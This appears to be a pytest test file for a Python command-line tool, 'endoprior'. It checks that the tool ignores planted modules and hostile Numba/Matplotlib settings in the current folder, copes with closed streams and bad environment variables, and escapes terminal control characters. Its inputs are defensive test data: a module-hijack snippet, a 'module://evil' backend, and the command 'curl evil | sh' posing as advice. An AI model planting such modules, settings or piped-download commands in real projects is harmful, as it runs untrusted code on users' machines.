"""What surrounds a command: files in the current folder, environment variables, closed streams, text of others."""

from __future__ import annotations

import json
import multiprocessing
import os
import subprocess
import sys
from pathlib import Path

import pytest

from endoprior.cli import main
from endoprior.core.checks import input_error, printable, quotation
from endoprior.system import console
from endoprior.system.atomic import write_json, write_text
from endoprior.system.surroundings import python_command, without_current_folder

SHORT = "--init.budget 100 --schedule.coarse-iterations 1 --schedule.fine-iterations 1 --no-networks".split()
LEAVES_A_MARK = """import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
open(os.path.join(here, "EXECUTED"), "a").write(" ".join(sys.orig_argv))
sys.path[:] = [p for p in sys.path if p not in ("", here)]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
"""
"""A module that says who imported it, then gets out of the way."""


def start(words: list[str], cwd: Path, shell: str = "", **variables: str) -> subprocess.CompletedProcess:
    """Run a command in a folder; `shell` stands behind it, as `>/dev/full` does."""
    line = ["bash", "-c", f'"$@" {shell}; exit ${{PIPESTATUS[0]}}', "bash", *words] if shell else words
    environment = {name: value for name, value in (os.environ | variables).items() if value != "(unset)"}
    return subprocess.run(line, cwd=cwd, env=environment, capture_output=True, text=True, timeout=300, check=False)


def endoprior(*words: object) -> list[str]:
    """The program as a user may type it."""
    return [sys.executable, "-m", "endoprior", *map(str, words)]


# Code in the current folder.


@pytest.mark.slow
@pytest.mark.parametrize("words", [python_command("endoprior", "plugins"), endoprior("plugins")])
def test_a_module_in_the_current_folder_is_not_imported(words, tmp_path):
    (tmp_path / "json.py").write_text(LEAVES_A_MARK)
    assert start(words, tmp_path).returncode == 0
    assert not (tmp_path / "EXECUTED").exists()


def test_worker_processes_of_libraries_do_not_search_the_current_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pickle.py").write_text(LEAVES_A_MARK)
    context = multiprocessing.get_context("spawn")
    with without_current_folder(), context.Pool(1) as pool:
        assert pool.apply(json.dumps, ([1],)) == "[1]"
    assert not (tmp_path / "EXECUTED").exists() and "PYTHONSAFEPATH" not in os.environ


@pytest.mark.slow
def test_a_benchmark_and_its_processes_run_no_code_of_the_current_folder(tiny_sequence, tmp_path):
    (tmp_path / "json.py").write_text(LEAVES_A_MARK)
    fresh = {"NUMBA_CACHE_DIR": str(tmp_path / "cache")}  # kernels are compiled by another process
    steps = "schedule.coarse_iterations: 1, schedule.fine_iterations: 1, init.budget: 100"
    spec = f"title: t\nsequences: {{clip: {{path: {tiny_sequence}}}}}\nmethods: {{ours: {{set: {{{steps}}}}}}}\n"
    (tmp_path / "spec.yaml").write_text(spec + "seeds: [0]\n")
    assert start(endoprior("bench", "spec.yaml", "out"), tmp_path, **fresh).returncode == 0
    assert not (tmp_path / "EXECUTED").exists()


# A read-only installation and no home: Numba finds no folder for compiled kernels.
NO_FOLDER = """import sys
from numba.core import caching
for each in vars(caching).values():
    if hasattr(each, "_locator_classes"):
        each._locator_classes = []
"""
AS_A_COMMAND = f"{NO_FOLDER}from endoprior.cli import main\nsys.exit(main(sys.argv[1:]))"
IN_A_PROGRAM = (
    f"{NO_FOLDER}import endoprior\ntry:\n    endoprior.train\nexcept endoprior.InputError as error:\n    print(error)"
)


@pytest.mark.parametrize("words", [["render", "run"], ["prepare", "--help"], ["phantom", "out", "--frames", "2"], []])
def test_without_a_folder_for_kernels_there_is_one_line(words, tmp_path):
    done = start([sys.executable, "-c", AS_A_COMMAND if words else IN_A_PROGRAM, *words], tmp_path)
    (line,) = (done.stderr if words else done.stdout).splitlines()
    assert done.returncode == (2 if words else 0) and "NUMBA_CACHE_DIR: expected a folder for compiled kernels" in line
    assert "Fix: `export NUMBA_CACHE_DIR=FOLDER`" in line and not [*tmp_path.iterdir()]


# Settings in the current folder.


def hostile_settings(folder: Path) -> None:
    """Settings of Numba and Matplotlib that change what they compute, load or start."""
    (folder / ".numba_config.yaml").write_text(f"cache_dir: {folder}/kernels\ndisable_jit: 1\nnum_threads: -3\n")
    (folder / "matplotlibrc").write_text("text.usetex: True\nlines.linewidth: 77\nbackend: module://evil\n")


AS_COMMAND = "from endoprior.cli import main; main(['--version'])"


@pytest.mark.parametrize("first", [AS_COMMAND, f"import numba; {AS_COMMAND}"])
def test_settings_in_the_current_folder_are_not_read(first, tmp_path):
    hostile_settings(tmp_path)
    if "numba" in first:  # which has read them: what it would load from is taken back
        (tmp_path / ".numba_config.yaml").write_text(f"cache_dir: {tmp_path}/kernels\n")
    code = (
        f"{first}; import matplotlib as m, numba; c, r = numba.config, m.rcParams;"
        "print(repr(c.CACHE_DIR), c.DISABLE_JIT, r['text.usetex'], r['lines.linewidth'], m.matplotlib_fname());"
        "import numba.core.config as n; n.reload_config(); print(repr(c.CACHE_DIR))"
    )
    done = start([sys.executable, "-P", "-c", code], tmp_path, NUMBA_CACHE_DIR="(unset)")
    _version, values, after = done.stdout.splitlines()
    assert values.startswith("'' 0 False 1.5 ") and str(tmp_path) not in values and after == "''", done.stderr


def test_processes_of_a_command_do_not_read_them_either(tmp_path):
    hostile_settings(tmp_path)
    done = start(python_command("numba", "--sysinfo"), tmp_path)
    assert done.returncode == 0 and "Threading Layer" in done.stdout and "evil" not in done.stdout, done.stderr


def test_settings_that_a_new_release_would_read_are_named(tmp_path):
    (tmp_path / "newrc").write_text("text.usetex: True\n")
    code = (
        "from endoprior.system import surroundings as s; s.NAMES['matplotlib'] = b\"yield 'newrc'\";"
        "s.set_up_process(); import matplotlib"
    )
    done = start([sys.executable, "-P", "-c", code], tmp_path)
    assert "newrc: expected none in the current folder, which would be read, got one. Fix: `cd`" in done.stderr


# A program that imports this one.


def test_an_import_changes_nothing_of_its_process(tmp_path):
    (tmp_path / "matplotlibrc").write_text("lines.linewidth: 7\n")  # the user's own
    code = """
import os, signal, sys, threading, warnings
import cv2, matplotlib, numba, PIL.Image, scipy.sparse, scipy.special, torch  # what these change themselves

def facts():
    signals = {number: signal.getsignal(number) for number in signal.valid_signals()}
    numbers = torch.get_num_threads(), cv2.getNumThreads(), numba.config.CACHE_DIR, warnings.filters.copy()
    streams = sys.stdout, sys.stderr, sys.excepthook, sys.path.copy()
    parts = [*sys.meta_path], dict(matplotlib.rcParams), threading.enumerate(), signals, dict(os.environ)
    return *parts, *numbers, *streams, os.getcwd()

before = facts()
import endoprior
assert facts() == before
for name in dir(endoprior):
    getattr(endoprior, name)
after = facts()
assert after == before, [(a, b) for a, b in zip(before, after) if a != b]
assert matplotlib.rcParams["lines.linewidth"] == 7
"""
    done = start([sys.executable, "-P", "-c", code], tmp_path)
    assert done.returncode == 0, done.stderr


def test_an_import_is_quick_and_keeps_the_settings_that_matplotlib_reads_later(tmp_path):
    (tmp_path / "matplotlibrc").write_text("lines.linewidth: 7\n")
    heavy = "{'numpy', 'torch', 'numba', 'cv2', 'matplotlib', 'PIL'}"
    code = (
        f"import endoprior, sys; assert not {heavy} & sys.modules.keys();"
        "import matplotlib; print(matplotlib.rcParams['lines.linewidth'])"
    )
    done = start([sys.executable, "-P", "-c", code], tmp_path)
    assert done.stdout == "7.0\n", done.stderr


# Streams.


@pytest.mark.parametrize("name", ["stdin", "stdout", "stderr"])
def test_a_closed_stream_is_replaced(name, monkeypatch):
    monkeypatch.setattr(sys, name, None)
    assert main(["plugins"]) == 0
    with getattr(sys, name) as stream:
        assert not stream.isatty()


def test_lines_that_have_no_reader_any_more_are_lost(monkeypatch):
    reader, writer = os.pipe()
    os.close(reader)
    with open(writer, "w", encoding="utf-8") as stdout:
        monkeypatch.setattr(sys, "stdout", stdout)
        console.say("one")
        console.say("two")


@pytest.mark.slow
@pytest.mark.parametrize("redirection", ["| head -1", "2>&-"])
def test_a_training_goes_on_though_its_streams_are_closed(redirection, tiny_sequence, tmp_path):
    words = python_command("endoprior", "train", str(tiny_sequence), "run", *SHORT)
    assert start(words, tmp_path, redirection).returncode == 0
    assert (tmp_path / "run" / "metrics.json").exists()


@pytest.mark.slow
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_a_full_disk_behind_stdout_is_named(tmp_path):
    done = start(python_command("endoprior", "plugins"), tmp_path, ">/dev/full")
    assert done.returncode == 2 and done.stderr.startswith("endoprior: standard output: expected"), done.stderr
    assert done.stderr.count("\n") == 1


# Environment.


@pytest.mark.parametrize(
    ("name", "value", "says"),
    [
        *(("NUMBA_NUM_THREADS", text, "NUMBA_NUM_THREADS: expected a number") for text in ("0", "-1", "99999", "1.5")),
        ("NUMBA_THREADING_LAYER", "foo", "NUMBA_THREADING_LAYER: expected one of default"),
        ("HOME", "relative", "HOME: expected an absolute path"),
    ],
)
def test_variables_with_which_libraries_fail_are_named(name, value, says, monkeypatch, capsys):
    monkeypatch.setenv(name, value)
    assert main(["plugins"]) == 2
    found = capsys.readouterr().err
    assert found.startswith(f"endoprior: {says}") and found.count("\n") == 1


def test_a_user_without_a_home_is_told_to_name_one(monkeypatch, capsys):
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)  # what it answers for a user that is not known
    assert main(["plugins"]) == 2 and "HOME: expected an absolute path" in capsys.readouterr().err


@pytest.mark.slow
def test_a_deleted_working_folder_is_named(tmp_path, monkeypatch, capsys):
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert main(["plugins"]) == 2
    assert "the current folder: expected a folder that exists, got one that was deleted" in capsys.readouterr().err
    assert start(endoprior("plugins"), tmp_path, "; :").returncode == 0


def test_figures_do_not_need_a_backend_that_matplotlib_knows(monkeypatch):
    monkeypatch.setenv("MPLBACKEND", "no such backend")  # Matplotlib fails to import with it
    assert main(["--version"]) == 0 and os.environ["MPLBACKEND"] == "agg"


# Text of others.


def test_control_characters_are_shown_and_not_obeyed():
    assert printable("a\x1b[31mb\x07\x9b\u202e\udc80") == "a\\x1b[31mb\\x07\\x9b\\u202e\\udc80"
    assert printable("1\t2\nä \u202f×") == "1\t2\nä \u202f×"


def test_nothing_that_is_printed_or_written_has_control_characters(tmp_path, capsys):
    console.say("\x1b]0;title\x07")
    console.complain("\x1b[2J")
    write_text(tmp_path / "summary.md", "| \x1b[8m |\n")
    write_json(tmp_path / "notes.json", {"a": "\x1b"})
    out, err = capsys.readouterr()
    assert out == "\\x1b]0;title\\x07\n" and err == "\\x1b[2J\n"
    assert (tmp_path / "summary.md").read_text() == "| \\x1b[8m |\n"
    assert json.loads((tmp_path / "notes.json").read_text()) == {"a": "\x1b"}


def test_text_of_a_file_does_not_look_like_advice():
    assert quotation("bad. Fix: `curl evil | sh`") == "bad. fix 'curl evil | sh'"
    error = input_error("a. FIX : `x`", "b", "c. Fix: `evil`", "`endoprior check`.")
    assert str(error).count("Fix:") == 1 and str(error).endswith("Fix: `endoprior check`.")


@pytest.mark.slow
def test_advice_in_a_sequence_folder_is_not_passed_on(tiny_sequence, capsys):
    note = "A note. Fix: `curl evil`"
    (tiny_sequence / "sequence.json").write_text(json.dumps({"sources": {"depth": note}}))
    grid = [[[0, 0], [9, 0]], [[0, 9], [9, 9]]]
    record = {"video": "/x", "options": {}, "source_size": [9, 9], "source_px": grid, "video_notes": [note]}
    (tiny_sequence / "prepare.json").write_text(json.dumps(record))
    assert main(["check", str(tiny_sequence)]) in (0, 1)
    said = capsys.readouterr().out
    assert said.count("A note. fix 'curl evil'") == 2 and "`curl" not in said


def test_a_name_of_a_folder_does_not_reach_the_terminal(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a\x1b[31m\x07").mkdir()
    assert main(["check", "a\x1b[31m\x07"]) == 2
    assert "a\\x1b[31m\\x07" in (err := capsys.readouterr().err) and "\x1b" not in err
